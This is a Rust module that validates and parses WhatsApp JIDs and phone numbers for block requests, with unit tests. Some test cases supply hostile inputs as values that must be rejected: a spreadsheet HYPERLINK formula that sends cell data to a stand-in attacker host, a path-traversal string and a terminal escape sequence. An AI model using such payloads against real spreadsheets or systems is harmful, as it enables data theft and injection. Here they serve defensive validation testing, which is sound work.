//! WhatsApp JIDs and the people they name: telling kinds of JID apart,
//! validating them, and reading what users type into a JID to send. The
//! phone number logic is libphonenumber's, in [`phone`].

use thiserror::Error;

pub(crate) mod list;
pub(crate) mod phone;
#[cfg(test)]
mod reference;
mod regions;

pub use phone::{PhoneError, Refused, Region, Understood, format_phone, split_calling_code};

pub use crate::model::jid::{
    JidKind, LID_SUFFIX, PHONE_SUFFIX, is_valid_jid, jid_kind, phone_digits,
};

/// What a typed number or JID names: whom a block request is for.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Target {
    /// A phone number, as understood.
    Phone(Understood),
    /// A hidden-number identity (`<digits>@lid`), typed as it is.
    Lid(String),
}

impl Target {
    /// The JID to send as `number`.
    pub fn jid(&self) -> String {
        match self {
            Target::Phone(u) => format!("{}{PHONE_SUFFIX}", u.digits),
            Target::Lid(lid) => lid.clone(),
        }
    }

    /// E.164 (`+447912345678`), for machine output; `None` for an `@lid`.
    pub fn e164(&self) -> Option<String> {
        match self {
            Target::Phone(u) => Some(u.e164()),
            Target::Lid(_) => None,
        }
    }

    /// How it reads on screen: the number in its country's format, or the
    /// `@lid`.
    pub fn shown(&self) -> String {
        match self {
            Target::Phone(u) => u.display.clone(),
            Target::Lid(lid) => lid.clone(),
        }
    }

    /// `+44 7912 345678 · United Kingdom · mobile`, or the `@lid` with
    /// `hidden number`.
    pub fn preview(&self) -> String {
        match self {
            Target::Phone(u) => u.preview(),
            Target::Lid(lid) => format!("{lid} · hidden number"),
        }
    }
}

/// Why typed text names no one a block can act on.
#[derive(Debug, Clone, PartialEq, Eq, Error)]
pub enum TypedError {
    /// Groups cannot be blocked.
    #[error("{0} is a group: WhatsApp blocks people, not groups")]
    Group(String),
    /// Channels cannot be blocked.
    #[error("{0} is a channel: WhatsApp blocks people, not channels")]
    Channel(String),
    /// A JID of no person.
    #[error(
        "\"{0}\" is not a person's JID: type a number, or <digits>@s.whatsapp.net / <digits>@lid"
    )]
    NotAJid(String),
    /// The number could not be read, or is not valid.
    #[error("{0}")]
    Phone(#[from] PhoneError),
}

impl TypedError {
    /// The reason alone, for a preview beside the typed text.
    pub fn brief(&self) -> String {
        match self {
            TypedError::Group(_) => "a group: WhatsApp blocks people".to_string(),
            TypedError::Channel(_) => "a channel: WhatsApp blocks people".to_string(),
            TypedError::NotAJid(_) => "not a person's JID".to_string(),
            TypedError::Phone(e) => e.brief(),
        }
    }
}

/// Reads what a user typed: a full JID (a person's phone JID, whose number
/// must be valid, or an `@lid`), or a phone number read by
/// [`phone::read`] in `region` when it has no country code. Groups and
/// channels are refused.
pub fn read_typed(input: &str, region: Option<Region>) -> Result<Target, TypedError> {
    let input = input.trim();
    if !input.contains('@') {
        return Ok(Target::Phone(phone::read(input, region)?));
    }
    match jid_kind(input) {
        JidKind::Phone => match phone_digits(input) {
            Some(digits) if is_valid_jid(input) => {
                Ok(Target::Phone(phone::read(&format!("+{digits}"), None)?))
            }
            _ => Err(TypedError::NotAJid(input.to_string())),
        },
        JidKind::Lid if is_valid_jid(input) => Ok(Target::Lid(input.to_string())),
        JidKind::Group => Err(TypedError::Group(input.to_string())),
        JidKind::Channel => Err(TypedError::Channel(input.to_string())),
        _ => Err(TypedError::NotAJid(input.to_string())),
    }
}

/// Whether `jid`, read back from the ledger (where another desk, another
/// version or a script may have written it), names a person a block may
/// be sent for, by the rule typed input follows: `<digits>@s.whatsapp.net`
/// whose number libphonenumber reads as valid, or `<digits>@lid`, exactly
/// as sent (no device, no spaces). Else why not, naming it (cleaned):
/// `not a person (status@broadcast)`.
pub fn stored_person(jid: &str) -> Result<(), String> {
    let shown = || crate::util::sanitize::clean(jid).into_owned();
    if !jid.contains('@') {
        return Err(format!("not a person ({})", shown()));
    }
    match read_typed(jid, None) {
        Ok(target) if target.jid() == jid => Ok(()),
        Err(TypedError::Phone(_)) => Err(format!("not a valid number ({})", shown())),
        _ => Err(format!("not a person ({})", shown())),
    }
}

/// How a JID reads on screen: a phone JID's number in its country's
/// format, anything else as it is.
pub fn shown_jid(jid: &str) -> String {
    phone_digits(jid).map_or_else(|| jid.to_string(), format_phone)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reads_jids_and_numbers() {
        let br = Region::from_code("BR");
        let jid = |s: &str| read_typed(s, br).map(|t| t.jid());
        assert_eq!(
            jid("+55 (11) 99999-9999").unwrap(),
            "5511999999999@s.whatsapp.net"
        );
        assert_eq!(
            jid(" 5511999999999@s.whatsapp.net ").unwrap(),
            "5511999999999@s.whatsapp.net"
        );
        assert_eq!(jid("123456789@lid").unwrap(), "123456789@lid");
        assert_eq!(
            read_typed("123456789@lid", br).unwrap().preview(),
            "123456789@lid · hidden number"
        );
    }

    #[test]
    fn refuses_groups_channels_and_garbage() {
        let read = |s: &str| read_typed(s, None);
        assert!(matches!(read("1203630@g.us"), Err(TypedError::Group(_))));
        assert!(matches!(read("99@newsletter"), Err(TypedError::Channel(_))));
        assert!(matches!(
            read("call me"),
            Err(TypedError::Phone(PhoneError {
                refused: Refused::NotANumber,
                ..
            }))
        ));
        assert!(matches!(
            read("abc@s.whatsapp.net"),
            Err(TypedError::NotAJid(_))
        ));
        assert!(matches!(read("=1+1@lid"), Err(TypedError::NotAJid(_))));
        assert!(
            matches!(read("123@s.whatsapp.net"), Err(TypedError::Phone(_))),
            "a phone JID's number must be valid"
        );
    }

    #[test]
    fn only_digits_before_the_server_make_a_jid() {
        for good in [
            "5511999999999@s.whatsapp.net",
            "5511999999999:12@s.whatsapp.net",
            "123456789@lid",
        ] {
            assert!(is_valid_jid(good), "{good}");
        }
        for bad in [
            "=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")@lid",
            "@lid",
            "12 34@lid",
            "1@g.us",
            "abc@s.whatsapp.net",
            "1:@s.whatsapp.net",
            "5511999999999",
            "+5511999999999@s.whatsapp.net",
            "0@lid",
            "000@s.whatsapp.net",
        ] {
            assert!(!is_valid_jid(bad), "{bad}");
        }
    }

    #[test]
    fn only_a_persons_jid_as_sent_is_taken_from_the_ledger() {
        for good in ["5511999999999@s.whatsapp.net", "123456789@lid"] {
            assert_eq!(stored_person(good), Ok(()), "{good}");
        }
        for (bad, why) in [
            ("status@broadcast", "not a person (status@broadcast)"),
            (
                "120363025246125486@g.us",
                "not a person (120363025246125486@g.us)",
            ),
            ("1234@newsletter", "not a person (1234@newsletter)"),
            (
                "../../instance/list?x=",
                "not a person (../../instance/list?x=)",
            ),
            (
                "123@s.whatsapp.net",
                "not a valid number (123@s.whatsapp.net)",
            ),
            (
                "5511999999999:3@s.whatsapp.net",
                "not a person (5511999999999:3@s.whatsapp.net)",
            ),
            (
                " 5511999999999@s.whatsapp.net",
                "not a person ( 5511999999999@s.whatsapp.net)",
            ),
            ("\u{1b}]0;x\u{7}@lid", "not a person (]0;x@lid)"),
        ] {
            assert_eq!(stored_person(bad), Err(why.to_string()), "{bad:?}");
        }
    }

    #[test]
    fn kinds_and_digits() {
        assert_eq!(jid_kind("1@s.whatsapp.net"), JidKind::Phone);
        assert_eq!(jid_kind("1@lid"), JidKind::Lid);
        assert_eq!(jid_kind("1@g.us"), JidKind::Group);
        assert_eq!(jid_kind("1@newsletter"), JidKind::Channel);
        assert_eq!(jid_kind("nonsense"), JidKind::Other);
        assert_eq!(
            phone_digits("5511999999999:3@s.whatsapp.net"),
            Some("5511999999999")
        );
        assert_eq!(phone_digits("123@lid"), None);
    }
}
